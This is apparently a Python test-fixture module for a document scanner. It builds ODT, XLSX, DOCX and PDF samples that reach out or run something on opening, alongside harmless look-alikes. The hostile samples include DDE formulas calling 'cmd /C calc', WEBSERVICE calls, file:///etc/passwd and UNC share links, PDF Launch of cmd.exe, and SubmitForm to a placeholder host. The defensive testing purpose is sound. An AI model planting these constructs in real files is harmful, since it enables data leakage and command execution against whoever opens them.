"""Files that fetch, send or start something once they are opened; and those that only seem to."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name

from tests.factories.progress import a_pdf
from tests.progress.files.good import TYPES, odt, sheet, sheet_of, with_parts, word

LINKS = (
    '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
    '<Relationship Id="r" Type="http://x/%s" Target="http://192.0.2.1/x" TargetMode="External"/>'
    "</Relationships>"
)
SPACES = (
    'xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:form="urn:oasis:names:tc:opendocument:xmlns:form:1.0" '
    'xmlns:meta="urn:oasis:names:tc:opendocument:xmlns:meta:1.0" '
    'xmlns:calcext="urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0" '
    'xmlns:svg="http://www.w3.org/2000/svg"'
)
LOADED = 'xlink:type="simple" xlink:show="embed" xlink:actuate="onLoad"'


def linked(target, element="draw:image", more=LOADED):
    """An OpenDocument text with an element that leads to this target."""
    return odt(f'<text:p><{element} {SPACES} xlink:href="{target}" {more}/></text:p>')


def calculated(formula, name="table:formula"):
    """An OpenDocument table with this formula."""
    cell = f'<table:table-cell {SPACES} {name}="{formula}"><text:p>0</text:p></table:table-cell>'
    rows = f"<table:table><table:table-row>{cell}</table:table-row></table:table>"
    return odt(rows, kind="spreadsheet")


def meta(element):
    return odt("<text:p/>", ("meta.xml", f"<meta {SPACES}>{element}</meta>"))


def drawn(element, name="word/media/image9.svg"):
    """A letter with a drawing that scales."""
    text = (
        '\ufeff<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        f"{element}</svg>"
    )
    return with_parts(word(), {name: text})


def renamed(element):
    """A letter whose text is a part with a name of its own, as the list of its parts allows."""
    text = f'<w:document xmlns:w="http://w" xmlns:r="{TYPES}/relationships">{element}</w:document>'
    content = word()
    named = with_parts(content, {"word/text.dat": text.encode("utf-16")})
    said = (
        f'<Types xmlns="{TYPES}"><Default Extension="rels" ContentType="application/xml"/>'
        '<Override PartName="/word/text.dat" ContentType="application/vnd.openxmlformats-'
        'officedocument.wordprocessingml.document.main+xml"/></Types>'
    )
    return with_parts(named, {"[Content_Types].xml": said})


def related(kind, target, mode="External"):
    text = LINKS.replace("http://192.0.2.1/x", target).replace("External", mode) % kind
    return with_parts(word(), {"word/_rels/settings.xml.rels": text})


def changed(change, **saving):
    """A PDF after ``change`` did something to it."""
    file = io.BytesIO()
    with pikepdf.open(io.BytesIO(a_pdf())) as document:
        change(document)
        document.save(file, **saving)
    return file.getvalue()


def acting(**action):
    """A PDF that does this when it is opened."""

    def change(document):
        document.Root.OpenAction = Dictionary(**action)

    return changed(change)


def on_a_page(**action):
    """A PDF that does this when its page is shown, after something harmless."""

    def change(document):
        first = Dictionary(S=Name.GoTo, D="x", Next=Array([Dictionary(**action)]))
        document.pages[0].AA = document.make_indirect(Dictionary(O=document.make_indirect(first)))

    return changed(change)


def clicked(**action):
    """A PDF with a link to be clicked."""

    def change(document):
        link = Dictionary(Subtype=Name.Link, Rect=Array([0, 0, 9, 9]), A=Dictionary(**action))
        document.pages[0].Annots = Array([document.make_indirect(link)])

    return changed(change)


def begins_on_its_page():
    def change(document):
        document.Root.OpenAction = Array([document.pages[0].obj, Name.Fit])

    return changed(change)


def outer_stream(document):
    document.Root.X = document.make_stream(b"", F="http://192.0.2.1/x")


def in_rows(*cells):
    return "\r\n".join(f"1;{cell}" for cell in cells).encode()


FETCHED = {
    f"{name}.odt": (lambda target=target: linked(target), "fetched")
    for name, target in {
        "http": "http://192.0.2.1/p.png",
        "https": "HTTPS://192.0.2.1/p.png",
        "spaced": " http://192.0.2.1/p.png",
        "file": "file:///etc/passwd",
        "ftp": "ftp://192.0.2.1/p.png",
        "smb": "smb://192.0.2.1/share/p.png",
        "share": "\\\\192.0.2.1\\share\\p.png",
        "share by file": "file://192.0.2.1/share/p.png",
        "no scheme": "//192.0.2.1/p.png",
        "outside": "../p.png",
        "hidden outside": "Pictures/%2e%2e/../p.png",
    }.items()
}
ADDRESS = "http://192.0.2.1/x"
REACHING = {
    **FETCHED,
    "section.odt": (lambda: linked(ADDRESS, "text:section-source", ""), "fetched"),
    "section of a file.odt": (lambda: linked("../x.odt", "text:section-source", ""), "fetched"),
    "frame.odt": (lambda: linked(ADDRESS, "draw:floating-frame", ""), "fetched"),
    "object.odt": (lambda: linked(ADDRESS, "draw:object", ""), "fetched"),
    "clicked by itself.odt": (lambda: linked(ADDRESS, "text:a"), "fetched"),
    "button.odt": (lambda: odt(f'<form:button {SPACES} form:image-data="{ADDRESS}"/>'), "fetched"),
    "reload.odt": (lambda: meta(f'<meta:auto-reload xlink:href="{ADDRESS}"/>'), "fetched"),
    "template.odt": (lambda: meta(f'<meta:template xlink:href="{ADDRESS}"/>'), "fetched"),
    "shared template.odt": (
        lambda: meta('<meta:template xlink:href="file:////192.0.2.1/t.ott"/>'),
        "fetched",
    ),
    "script link.odt": (lambda: linked(" JavaScript:x()", "text:a", ""), "macros"),
    "table elsewhere.ods": (
        lambda: odt(
            f'<table:table-source {SPACES} xlink:href="{ADDRESS}" table:mode="copy-results-only"/>',
            kind="spreadsheet",
        ),
        "fetched",
    ),
    "object inside.odt": (
        lambda: odt(
            "",
            ("Object 1/content.xml", f'<draw:image {SPACES} xlink:href="../../p.png"/>'),
        ),
        "fetched",
    ),
    "drawing.odt": (
        lambda: odt(
            "",
            ("Pictures/a.svg", f'<svg:svg {SPACES}><svg:image href="{ADDRESS}"/></svg:svg>'),
        ),
        "fetched",
    ),
    "dde.ods": (
        lambda: calculated("of:=DDE(&quot;soffice&quot;;&quot;x&quot;;&quot;A1&quot;)"),
        "reaching",
    ),
    "webservice.ods": (
        lambda: calculated("of:=COM.MICROSOFT.WEBSERVICE(&quot;http://192.0.2.1/&quot;)"),
        "reaching",
    ),
    "condition.ods": (
        lambda: calculated("formula-is(WEBSERVICE([.A1]))", "calcext:value"),
        "reaching",
    ),
    "validity.ods": (
        lambda: calculated("of:is-true-formula(WEBSERVICE([.A1]))", "table:condition"),
        "reaching",
    ),
    "server.ods": (lambda: calculated("of:=['http://192.0.2.1/x.ods'#$A.B1]"), "reaching"),
    "webservice.xlsx": (lambda: sheet_of('=WEBSERVICE("http://192.0.2.1/"&A1)'), "reaching"),
    "prefixed.xlsx": (lambda: sheet_of("=1+_xlfn.WEBSERVICE (A1)"), "reaching"),
    "picture.xlsx": (lambda: sheet_of('=_xlfn.IMAGE("http://192.0.2.1/")'), "reaching"),
    "dde formula.xlsx": (lambda: sheet_of("=cmd|'/C calc'!A0"), "reaching"),
    "dde function.xlsx": (lambda: sheet_of('=DDE("cmd","/C calc","A0")'), "reaching"),
    "named.xlsx": (
        lambda: with_parts(
            sheet(),
            {"xl/names.xml": "<x><definedName>WEB<!-- -->SERVICE(A1)</definedName></x>"},
        ),
        "reaching",
    ),
    "connection.xlsx": (
        lambda: with_parts(
            sheet(), {"xl/connections.xml": '<x><connection refreshOnLoad="1"/></x>'}
        ),
        "fetched",
    ),
    "server template.docx": (
        lambda: related("attachedTemplate", "file:///\\\\192.0.2.1\\t.dotx"),
        "fetched",
    ),
    "inner address.docx": (lambda: related("image", ADDRESS, "Internal"), "fetched"),
    "external in capitals.docx": (lambda: related("image", ADDRESS, "EXTERNAL"), "fetched"),
    "page inside.docx": (lambda: related("aFChunk", "page.htm", "Internal"), "embedded"),
    "renamed part.docx": (lambda: renamed('<w:fldSimple w:instr="DDEAUTO c"/>'), "macros"),
    "renamed part and picture.docx": (lambda: renamed('<blip r:link="r1"/>'), "fetched"),
    "hidden field.docx": (
        lambda: with_parts(word(), {"word/x.bin": ' <w instr="DDE cmd"/>'}),
        "macros",
    ),
    "drawing.docx": (lambda: drawn(f'<image xlink:href="{ADDRESS}"/>'), "fetched"),
    "scripted drawing.docx": (lambda: drawn("<script>alert(1)</script>"), "macros"),
    "old drawing.docx": (lambda: drawn(f'<fill src="{ADDRESS}"/><br>', "word/a.vml"), "fetched"),
    "opens.pdf": (lambda: acting(S=Name.URI, URI=ADDRESS), "pdf_opens"),
    "opens a file.pdf": (lambda: acting(S=Name.GoToR, F="x.pdf", D=Array([0])), "pdf_opens"),
    "unknown.pdf": (lambda: acting(S=Name.Unheard), "pdf_opens"),
    "starts.pdf": (lambda: on_a_page(S=Name.Launch, F="cmd.exe"), "pdf_script"),
    "page opens.pdf": (lambda: on_a_page(S=Name.URI, URI=ADDRESS), "pdf_opens"),
    "page opens a file.pdf": (lambda: on_a_page(S=Name.GoToR, F="x.pdf"), "pdf_opens"),
    "page sends.pdf": (lambda: on_a_page(S=Name.SubmitForm, F=ADDRESS), "pdf_form"),
    "page takes.pdf": (lambda: on_a_page(S=Name.ImportData, F="x.fdf"), "pdf_form"),
    "page script in a name.pdf": (lambda: on_a_page(S=Name.JavaScript), "pdf_script"),
    "outer stream.pdf": (lambda: changed(outer_stream), "pdf_opens"),
}
SEEMING = {
    "link.odt": lambda: linked(ADDRESS, "text:a", 'xlink:type="simple"'),
    "mail.odt": lambda: linked("mailto:stadt@example.org", "text:a", ""),
    "picture.odt": lambda: linked("Pictures/a%20b.png"),
    "picture in itself.odt": lambda: linked("data:image/png;base64,AAAA"),
    "object.odt": lambda: linked("./Object 1", "draw:object"),
    "template.odt": lambda: meta(
        '<meta:template xlink:href="file:///C:/Vorlagen/brief.ott" xlink:actuate="onRequest"/>'
    ),
    "relative template.odt": lambda: meta('<meta:template xlink:href="../../../brief.ott"/>'),
    "chart.ods": lambda: odt(
        "", ("Object 1/content.xml", f'<chart {SPACES} xlink:href=".."/>'), kind="spreadsheet"
    ),
    "menu.odt": lambda: odt(
        "",
        ("Configurations2/accelerator/current.xml", f'<a {SPACES} xlink:href="service:x"/>'),
    ),
    "other table.ods": lambda: odt(
        f'<table:table-source {SPACES} xlink:href="../budget.ods" table:mode="copy-results-only"/>',
        kind="spreadsheet",
    ),
    "sum.ods": lambda: calculated("of:=SUM([.A1:.B2]; {1;2|3;4}) &amp; &quot;WEBSERVICE(&quot;"),
    "formulas.xlsx": lambda: sheet_of(
        '=HYPERLINK("https://example.org","Quelle")', '="DDE("&A1&")"', "=SUM(A1,-B1)*2"
    ),
    "template.docx": lambda: related("attachedTemplate", "file:///C:\\Vorlagen\\Brief.dotx"),
    "link.docx": lambda: related("hyperlink", "https://example.org/a|b!"),
    "data.docx": lambda: with_parts(
        word(), {"customXml/item1.xml": f'<a src="{ADDRESS}" href="{ADDRESS}"/>'}
    ),
    "drawing.docx": lambda: drawn(
        f'<a href="{ADDRESS}"><use href="#b"/></a><image xlink:href="data:image/png;,"/>'
    ),
    "old drawing.docx": lambda: with_parts(
        word(), {"word/a.vml": f'<xml><shape href="{ADDRESS}"/><fill src="a.png"/>a<br>b</xml>'}
    ),
    "link.pdf": lambda: clicked(S=Name.URI, URI="https://example.org/"),
    "link to an annex.pdf": lambda: clicked(S=Name.GoToR, F="annex.pdf", D=Array([0])),
    "begins on its page.pdf": begins_on_its_page,
    "begins on a page.pdf": lambda: acting(S=Name.GoTo, D="x"),
    "asks to be printed.pdf": lambda: acting(S=Name.Named, N=Name.Print),
}
